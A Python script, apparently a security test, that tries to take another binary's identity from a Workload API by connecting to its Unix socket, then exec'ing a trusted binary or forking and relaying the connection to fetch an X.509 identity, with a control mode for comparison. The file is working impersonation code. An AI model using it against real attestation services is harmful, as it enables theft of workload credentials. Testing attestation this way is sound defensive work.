"""Tries to take another binary's identity from the Workload API by exec after connect.

Usage: exec_relay_attacker.py STUB_DIR SOCKET MODE [ARGS...]
  same-process              control: connects and relays its own connection to the stock
                            client, exec'ing nothing; it should get its own identity
  relay-from-child TRUSTED  connects, forks, and the parent execs TRUSTED (e.g. /usr/bin/sleep,
                            which an entry selects by path or hash) while the child relays the
                            parent's connection to the stock client
  exec-in-place TRUSTED     connects under the interpreter it was started with (a copy of
                            python), then execs TRUSTED (the real python) in the same process,
                            keeping the connection, and relays it from there
Prints the stock client's JSON (workload_client.py x509 1).
"""
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))


def connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    # The server's first bytes (its SETTINGS) say the connection was accepted: what the
    # server learns at accept is learnt before the exec.
    s.recv(1, socket.MSG_PEEK)
    return s


def pump(source, sink):
    try:
        while True:
            data = source.recv(65536)
            if not data:
                break
            sink.sendall(data)
    except OSError:
        pass
    try:
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def relay_and_fetch(stubs, upstream):
    """Serves `upstream` on a socket of its own to the stock client; returns its output."""
    workdir = tempfile.mkdtemp()
    path = os.path.join(workdir, "relay.sock")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    listener.listen(1)

    def serve():
        client, _ = listener.accept()
        threading.Thread(target=pump, args=(upstream, client), daemon=True).start()
        pump(client, upstream)

    threading.Thread(target=serve, daemon=True).start()
    run = subprocess.run([sys.executable, os.path.join(HERE, "workload_client.py"), stubs, "unix://" + path, "x509", "1"],
                         capture_output=True, text=True, timeout=60)
    sys.stderr.write(run.stderr)
    return run.stdout


def wait_for_exe(pid, target):
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            if os.readlink("/proc/%d/exe" % pid) == target:
                return
        except OSError:
            pass
        time.sleep(0.01)
    raise SystemExit("process %d never ran %s" % (pid, target))


def main():
    stubs, socket_path, mode, args = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
    if mode == "same-process":
        print(relay_and_fetch(stubs, connect(socket_path)), end="")
    elif mode == "relay-from-child":
        trusted = os.path.realpath(args[0])
        upstream = connect(socket_path)
        os.set_inheritable(upstream.fileno(), True)  # the exec'd parent keeps it too
        parent = os.getpid()
        if os.fork() != 0:
            os.execv(trusted, [trusted, "60"])
        wait_for_exe(parent, trusted)
        try:
            print(relay_and_fetch(stubs, upstream), end="", flush=True)
        finally:
            os.kill(parent, signal.SIGKILL)
    elif mode == "exec-in-place":
        upstream = connect(socket_path)
        os.set_inheritable(upstream.fileno(), True)
        os.execv(args[0], [args[0], os.path.abspath(__file__), stubs, socket_path, "relay-fd", str(upstream.fileno())])
    elif mode == "relay-fd":
        upstream = socket.socket(fileno=int(args[0]))
        print(relay_and_fetch(stubs, upstream), end="")
    else:
        raise SystemExit("unknown mode " + mode)


if __name__ == "__main__":
    main()
